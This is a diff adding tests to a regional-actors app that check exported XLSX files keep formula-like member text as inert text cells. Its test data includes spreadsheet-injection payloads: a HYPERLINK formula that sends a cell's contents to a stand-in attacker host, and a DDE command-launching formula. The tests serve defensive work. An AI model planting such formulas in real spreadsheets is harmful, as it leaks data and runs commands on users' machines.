@@ -42,11 +42,34 @@ def test_workbook_has_one_sheet_per_kind_with_german_headers(runner, tmp_path):
     assert wb["Akteure"].max_row > 5
 
 
+#: member-entered text a spreadsheet program could take for a formula or an error value
+FORMULA_TEXTS = ('=HYPERLINK("https://evil.example/?"&A1,"Klick")', "+49 2761 1234",
+                 "-Liste", "@SUM(A1:A3)", "#N/A", "=cmd|' /C calc'!A0", "\t=1+1")
+
+
+def _with_formula_texts(runner, tmp_path) -> None:
+    """The region's text fields hold values that look like formulas."""
+    path = tmp_path / "formulas.json"
+    assert runner.invoke(args=["export", "swf5", "-o", str(path)]).exit_code == 0
+    doc = json.loads(path.read_text())
+    for actor, value in zip(doc["actors"], FORMULA_TEXTS, strict=False):
+        actor["description"] = value
+    doc["actors"][-1]["name"] = "=1+1"
+    doc["initiatives"][0]["funding"] = "=2*3"
+    doc["ties"][0]["description"] = "#REF!"
+    doc["region"]["description"] = "=A1"
+    path.write_text(json.dumps(doc))
+    result = runner.invoke(args=["import", str(path)])
+    assert result.exit_code == 0, result.output
+
+
 def test_xlsx_round_trip_gives_the_identical_json_export(runner, tmp_path, app):
     """Export JSON, export XLSX, change the region, import the XLSX: the JSON export is the
-    original one again, byte for byte."""
+    original one again, byte for byte, text that looks like a formula included."""
     first, book, second = tmp_path / "a.json", tmp_path / "a.xlsx", tmp_path / "b.json"
+    _with_formula_texts(runner, tmp_path)
     assert runner.invoke(args=["export", "swf5", "-o", str(first)]).exit_code == 0
+    assert FORMULA_TEXTS[0] in first.read_text(encoding="utf-8").replace('\\"', '"')
     _export_xlsx(runner, book)
     doc = json.loads(first.read_text())
     doc["actors"][0]["name"] = "Zwischenstand"
@@ -60,6 +83,27 @@ def test_xlsx_round_trip_gives_the_identical_json_export(runner, tmp_path, app):
     assert first.read_text() == second.read_text()
     # and once more: nothing left to change
     assert "0 neu, 0 geändert, 0 entfernt" in runner.invoke(args=["import", str(book)]).output
+
+
+def test_xlsx_writes_member_text_as_text_never_as_a_formula(as_user, api):
+    """A member's text that starts like a formula ("=HYPERLINK(…)") is a text cell in the
+    export (Excel evaluates no text cell), marked with Excel's quote prefix so that editing
+    the cell keeps it text; its value is the text as entered."""
+    olpe = api("olpe")
+    for key, value in (("olpe-bm", FORMULA_TEXTS[0]), ("olpe-rat", "#N/A"),
+                       ("olpe-digital", "@SUM(A1:A3)")):
+        response = olpe.patch(f"/regions/swf5/actors/{key}", {"description": value})
+        assert response.status_code == 200, response.get_json()
+    response = as_user("koordination").get(f"{R}/bundle.xlsx")
+    ws = load_workbook(io.BytesIO(response.data))["Akteure"]
+    column = [c.value for c in ws[1]].index("Beschreibung")
+    cells = {row[0].value: row[column] for row in ws.iter_rows(min_row=2)}
+    for key, value in (("olpe-bm", FORMULA_TEXTS[0]), ("olpe-rat", "#N/A"),
+                       ("olpe-digital", "@SUM(A1:A3)")):
+        assert cells[key].data_type == "s", key
+        assert cells[key].value == value
+        assert cells[key].quotePrefix
+    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
 
 
 def test_template_workbook_has_drop_down_lists_and_an_explanation(as_user):
@@ -111,6 +155,20 @@ def test_csv_semicolon_bom_decimal_comma_merges(runner, tmp_path, app):
         rat = _actor("olpe-rat")  # updated, blank cells keep what it had
         assert rat.name == "Rat der Stadt Olpe (neu)" and rat.capacity_fte == 0.5
         assert rat.type == old_type
+
+
+def test_csv_sheet_keeps_the_regions_solutions(api):
+    """A single CSV sheet only adds and updates: the region's solutions, which no sheet
+    holds, stay as they are (they were removed)."""
+    coordinator = api("koordination")
+    before = coordinator.get("/regions/swf5/bundle").get_json()["solutions"]
+    assert before
+    response = coordinator.client.put("/api/v1/regions/swf5/bundle",
+                                      data=GERMAN_CSV.encode("utf-8"),
+                                      headers={**coordinator.headers, "Content-Type": "text/csv"})
+    assert response.status_code == 200, response.get_json()
+    assert response.get_json()["changes"]["solutions"]["deleted"] == 0
+    assert coordinator.get("/regions/swf5/bundle").get_json()["solutions"] == before
 
 
 def test_csv_windows_1252_comma_separated_dates_and_ja_nein(runner, tmp_path, app):
